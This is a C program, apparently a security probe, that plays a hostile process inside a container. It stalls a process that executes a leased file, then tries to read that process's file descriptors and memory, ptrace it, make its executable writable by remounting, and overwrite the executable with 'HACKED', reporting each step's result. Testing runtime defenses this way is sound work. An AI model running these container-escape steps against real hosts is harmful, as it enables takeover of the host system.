// A hostile process of a container. It takes a lease on FILE, so that whoever executes FILE waits
// just before that for as long as it likes (fcntl(2), F_SETLEASE), and meanwhile takes from the
// waiting process what it can get. In the end it tries to overwrite that process's executable.
//
//   peer FILE NAME...      NAMEs: what the waiting process may be called
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MOUNT_SETATTR = 442, SEIZE = 0x4206, READ_ONLY = 1 };
struct mount_attributes { unsigned long long set, clear, propagation, user_namespace; };

static volatile sig_atomic_t opened;
static void on_open(int signal) { opened = signal; }

static const char *name_of(int error) {
    switch (error) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case EROFS: return "EROFS";
    case EINVAL: return "EINVAL";
    case EBADF: return "EBADF";
    case ETXTBSY: return "ETXTBSY";
    default: return strerror(error);
    }
}

static void tell(const char *what, int failed) {
    printf("%s: %s\n", what, failed ? name_of(errno) : "done");
    fflush(stdout);
}

static int is_one_of(const char *name, char **names) {
    while (*names && strcmp(name, *names)) names++;
    return *names != NULL;
}

static int find(char **names) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        char path[300], comm[64] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
        FILE *file = fopen(path, "r");
        if (!file) continue;
        if (fscanf(file, "%63s", comm) == 1 && is_one_of(comm, names)) {
            int pid = atoi(entry->d_name);
            fclose(file);
            closedir(proc);
            return pid;
        }
        fclose(file);
    }
    if (proc) closedir(proc);
    return 0;
}

static const char *at(int pid, const char *name) {
    static char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}

int main(int argc, char **argv) {
    (void)argc;
    signal(SIGIO, on_open);
    int file = open(argv[1], O_RDWR);
    if (file < 0 || fcntl(file, F_SETLEASE, F_WRLCK)) return perror("lease"), 1;
    puts("ready");
    fflush(stdout);
    while (!opened) usleep(1000);

    int pid = find(argv + 2);
    printf("waits: %s\n", pid ? "yes" : "no");
    DIR *fds = opendir(at(pid, "fd"));
    tell("fds", !fds);
    for (struct dirent *entry; fds && (entry = readdir(fds));)
        if (atoi(entry->d_name) > 2) printf("has fd %s\n", entry->d_name);
    int memory = open(at(pid, "mem"), O_RDWR);
    tell("memory", memory < 0);
    int seized = syscall(SYS_ptrace, SEIZE, pid, 0, 0);
    tell("trace", seized < 0);
    int exe = open(at(pid, "exe"), O_RDONLY);
    tell("exe", exe < 0);
    char through[64];
    snprintf(through, sizeof through, "/proc/self/fd/%d", exe);
    struct mount_attributes writable = {0, READ_ONLY, 0, 0};
    tell("clear by fd", syscall(MOUNT_SETATTR, exe, "", AT_EMPTY_PATH, &writable, sizeof writable));
    tell("clear by path", syscall(MOUNT_SETATTR, AT_FDCWD, at(pid, "exe"), 0, &writable, sizeof writable));
    tell("remount", mount("none", at(pid, "exe"), 0, MS_REMOUNT | MS_BIND, 0));
    tell("remount by fd", mount("none", through, 0, MS_REMOUNT | MS_BIND, 0));

    fcntl(file, F_SETLEASE, F_UNLCK);
    close(file);
    if (!seized) {
        kill(pid, SIGKILL);
        for (int status; waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status);) {}
    }
    // While it runs it is "text file busy"; one process of it may be outside, where we cannot look.
    int target = -1;
    for (int i = 0; exe >= 0 && i < 10000 && target < 0; i++) {
        target = open(through, O_WRONLY);
        if (target < 0 && errno != ETXTBSY) break;
        usleep(1000);
    }
    // A sealed memory file can be opened for writing, but not written to.
    tell("overwrite", target < 0 || write(target, "HACKED\n", 7) < 0);
    puts("end");
    return 0;
}
